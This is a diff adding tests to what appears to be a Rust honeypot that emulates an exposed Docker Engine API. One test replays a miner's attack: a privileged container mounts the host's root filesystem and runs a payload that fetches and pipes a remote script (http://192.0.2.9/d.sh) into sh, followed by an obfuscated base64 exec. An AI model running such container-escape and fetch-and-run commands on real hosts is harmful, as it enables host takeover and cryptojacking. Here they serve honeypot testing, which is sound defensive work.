@@ -226,7 +226,11 @@ fn what_is_done_to_the_machine_is_seen_afterwards() {
         (ask("DELETE", "/volumes/vol", Value::Null), 204, ""),
         (ask("DELETE", "/volumes/vol", Value::Null), 404, "no such volume"),
         (ask("POST", "/build/prune", Value::Null), 200, "SpaceReclaimed"),
-        (ask("POST", "/swarm/init", json!({})), 400, "could not choose an IP address to advertise"),
+        (
+            ask("POST", "/swarm/init", json!({"ListenAddr": "0.0.0.0:2377"})),
+            400,
+            "could not choose an IP address to advertise",
+        ),
         (ask("POST", "/images/base:1/tag?repo=alpine", Value::Null), 404, "No such image"),
         (ask("POST", "/images/nginx:1.21/tag?repo=alpine", Value::Null), 201, ""),
         (ask("POST", "/containers/create?name=box-c", json!({"Image": "alpine", "Cmd": ["nosuch"]})), 201, "Id"),
@@ -293,4 +297,100 @@ fn what_happened_to_a_container_is_told_to_who_asks_for_events() {
         .collect();
     assert_eq!(actions, ["create", "start", "die", "destroy"], "{told}");
     assert!(told.contains("\"exitCode\":\"7\"") && told.contains("\"a\":\"b\""));
+}
+
+/// A miner's visit as it is told of open engines: a container on the machine's files, what it runs in them, and what it asks afterwards.
+#[test]
+fn an_attack_on_an_open_engine_leaves_a_full_record() {
+    let payload = "chroot /mnt sh -c 'echo Kgk= | base64 -d; (curl -fsSL http://192.0.2.9/d.sh || wget -q -O- http://192.0.2.9/d.sh) | sh'";
+    let config = json!({
+        "Image": "alpine:latest", "Cmd": ["sh", "-c", payload], "Env": ["LANG=C"], "Tty": false,
+        "HostConfig": {"Binds": ["/:/mnt"], "Privileged": true, "NetworkMode": "host", "PidMode": "host",
+            "RestartPolicy": {"Name": "always"}},
+    });
+    let exec = json!({"Cmd": ["sh", "-c", "echo aWQ= | base64 -d | sh"], "AttachStdout": true, "AttachStderr": true});
+    let outcome = answered(&[
+        (call("GET", "/version", Value::Null), 200, "ApiVersion"),
+        (call("GET", "/containers/json", Value::Null), 200, "Up "),
+        (call("POST", "/containers/create?name=miner", config.clone()), 404, "No such image: alpine:latest"),
+        (
+            call("POST", "/images/create?fromImage=alpine&tag=latest", Value::Null),
+            200,
+            "Downloaded newer image for alpine:latest",
+        ),
+        (call("POST", "/containers/create?name=miner", config), 201, "Id"),
+        (call("POST", "/containers/miner/start", Value::Null), 204, ""),
+        (call("GET", "/containers/miner/json", Value::Null), 200, "\"Privileged\":true"),
+        (
+            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
+            404,
+            "No such image",
+        ),
+        (
+            call("POST", "/images/create?fromImage=cmd.cat%2Fchattr&tag=latest", Value::Null),
+            200,
+            "Downloaded newer image",
+        ),
+        (
+            call("POST", "/containers/create?name=chattr", json!({"Image": "cmd.cat/chattr", "Cmd": ["sleep", "60"]})),
+            201,
+            "Id",
+        ),
+        (call("POST", "/containers/chattr/start", Value::Null), 204, ""),
+        (call("POST", "/containers/chattr/exec", exec), 201, "Id"),
+        (call("DELETE", "/containers/chattr?force=1", Value::Null), 204, ""),
+    ]);
+    let requests: Vec<&Value> = outcome.events.iter().filter_map(|event| event.fields.get("decoded")).collect();
+    let made = requests.iter().filter_map(|decoded| decoded.get("container")).next_back().unwrap();
+    assert_eq!(made["image"], "cmd.cat/chattr");
+    let made = &requests.iter().find_map(|decoded| decoded.get("container")).unwrap();
+    let told =
+        [("binds", json!(["/:/mnt"])), ("privileged", json!(true)), ("network", json!("host")), ("pid", json!("host"))];
+    for (name, value) in
+        told.into_iter().chain([("restart", json!("always")), ("command", json!(["sh", "-c", payload]))])
+    {
+        assert_eq!(made[name], value, "{name}");
+    }
+    let commands: Vec<&str> = outcome
+        .events
+        .iter()
+        .filter(|event| event.kind == "command")
+        .filter_map(|event| event.fields["command"].as_str())
+        .collect();
+    assert!(commands.contains(&format!("sh -c {payload}").as_str()), "{commands:?}");
+    assert!(commands.contains(&"sh -c echo aWQ= | base64 -d | sh"), "{commands:?}");
+    assert!(
+        outcome.downloads.iter().any(|download| download.url == "http://192.0.2.9/d.sh"),
+        "{:?}",
+        outcome.downloads
+    );
+}
+
+/// An image that was built for it brings its command with it.
+#[test]
+fn an_image_runs_what_its_dockerfile_says() {
+    let context = super::super::docker::archive_of(
+        "Dockerfile",
+        b"FROM alpine:3.14\nENV POOL=192.0.2.9:3333\nENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"echo $POOL\"]\n",
+    );
+    let mut build = format!(
+        "POST /v1.41/build?t=mine HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-tar\r\nContent-Length: {}\r\n\r\n",
+        context.len()
+    )
+    .into_bytes();
+    build.extend(context);
+    let after = [
+        call("POST", "/containers/create?name=built", json!({"Image": "mine"})),
+        call("POST", "/containers/built/start", Value::Null),
+        call("GET", "/containers/built/logs?stdout=1", Value::Null),
+        call("GET", "/images/mine/json", Value::Null),
+    ];
+    let mut steps = vec![Step::Recv(&build), Step::Wait(20_000)];
+    steps.extend(after.iter().flat_map(|request| [Step::Recv(request.as_bytes()), Step::Wait(1_000)]));
+    let outcome = Transcript::tcp("docker", "").run(&steps);
+    let all = answers(&outcome);
+    assert!(all[3].2.ends_with("192.0.2.9:3333\n"), "{}", all[3].2);
+    assert!(all[4].2.contains("POOL=192.0.2.9:3333"), "{}", all[4].2);
+    let commands = outcome.events.iter().filter(|event| event.kind == "command");
+    assert!(commands.into_iter().any(|event| event.fields["command"] == "sh -c echo $POOL"));
 }
